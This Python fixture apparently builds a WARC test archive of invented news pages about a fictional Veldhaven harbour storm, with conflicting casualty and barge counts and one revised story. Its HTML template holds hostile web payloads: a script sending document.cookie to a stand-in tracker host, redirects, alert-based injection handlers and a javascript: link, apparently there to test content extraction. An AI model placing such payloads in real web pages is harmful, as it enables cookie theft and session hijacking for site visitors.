"""An invented harbour storm, told by two outlets, as a WARC file of their pages: figures differ, and one is changed."""

from io import BytesIO
from pathlib import Path

from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

TIMES, WIRE = "http://times.example", "http://wire.example"
STORM = f"{TIMES}/2026/02/storm"

PAGE = """<!doctype html><html lang="en"><head><title>{title} - {outlet}</title>
<meta property="article:published_time" content="{published}"><meta property="og:site_name" content="{outlet}">
<link rel="stylesheet" href="http://tracker.example/style.css"><meta http-equiv="refresh" content="0;url=http://tracker.example/">
<script>fetch("http://tracker.example/" + document.cookie); window.top.location = "http://tracker.example/"</script>
</head><body onload="alert(1)"><article><h1>{title}</h1>{paragraphs}
<img src="http://tracker.example/pixel.png" onerror="alert(1)"><iframe src="http://tracker.example/"></iframe>
<form action="http://tracker.example/"><button>Subscribe</button></form>
<a href="javascript:alert(1)">More</a> <a href="http://times.example/next">Next</a></article></body></html>"""

STORIES = [
    (
        STORM,
        "Harbour Times",
        "2026-02-24T09:00:00+00:00",
        "2026-02-24T10:00:00Z",
        "Storm sinks barges in Veldhaven harbour",
        (
            "A storm that hit Veldhaven harbour on Tuesday morning sank 45 barges, port director Ilse Brandt said.",
            "Brandt said that 38 people were missing in Veldhaven on Tuesday evening.",
            "The port authority of Veldhaven expects damage of about 12.5 million euros.",
            "Boats from the villages around the bay searched the water until it was dark.",
        ),
    ),
    (
        STORM,
        "Harbour Times",
        "2026-02-24T09:00:00+00:00",
        "2026-02-25T10:00:00Z",
        "Storm sinks barges in Veldhaven harbour",
        (
            "A storm that hit Veldhaven harbour on Tuesday morning sank 52 barges, port director Ilse Brandt said.",
            "Brandt said that 38 people were missing in Veldhaven on Tuesday evening.",
            "The port authority of Veldhaven expects damage of about 12.5 million euros.",
            "Boats from the villages around the bay searched the water until it was dark.",
        ),
    ),
    (
        f"{WIRE}/storm-missing",
        "Delta Wire",
        "2026-02-24T20:00:00+00:00",
        "2026-02-24T21:00:00Z",
        "Families wait after storm in Veldhaven harbour",
        (
            "After the storm in Veldhaven harbour 61 people were missing on Tuesday evening, "
            "Red Cross spokesman Piet Sorel said.",
            "Sorel said that at least 45 barges sank in Veldhaven harbour on Tuesday.",
            "Between 200 and 250 families are waiting at the old fish hall, the Red Cross said.",
            "The ministry plans to send 300 soldiers on Thursday, minister Ana Kolb said.",
        ),
    ),
    (
        f"{WIRE}/storm-wednesday",
        "Delta Wire",
        "2026-02-25T20:00:00+00:00",
        "2026-02-25T21:00:00Z",
        "Search goes on in Veldhaven harbour",
        (
            "In Veldhaven 33 people were still missing on Wednesday, port director Ilse Brandt said.",
            "Red Cross spokesman Piet Sorel said that 57 people were missing in Veldhaven on Wednesday.",
            "The storm in Veldhaven harbour sank 52 barges on Tuesday, Brandt said.",
        ),
    ),
]


def write_archive(path: Path) -> None:
    """Write the pages as a crawler fetched them."""
    with path.open("wb") as stream:
        writer = WARCWriter(stream, gzip=True)
        for address, outlet, published, fetched, title, paragraphs in STORIES:
            body = PAGE.format(
                title=title,
                outlet=outlet,
                published=published,
                paragraphs="".join(f"<p>{paragraph}</p>" for paragraph in paragraphs),
            )
            record = writer.create_warc_record(
                address,
                "response",
                payload=BytesIO(body.encode()),
                http_headers=StatusAndHeaders(
                    "200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1"
                ),
                warc_headers_dict={"WARC-Date": fetched},
            )
            writer.write_record(record)


CONFIGURATION = f"""contact = "desk@example.org"

[[outlets]]
name = "Harbour Times"
home = "{TIMES}/"
sections = ["{TIMES}/"]
country = "nl"
language = "en"
timezone = "UTC"

[[outlets]]
name = "Delta Wire"
home = "{WIRE}/"
sections = ["{WIRE}/"]
country = "nl"
language = "en"
timezone = "UTC"
"""
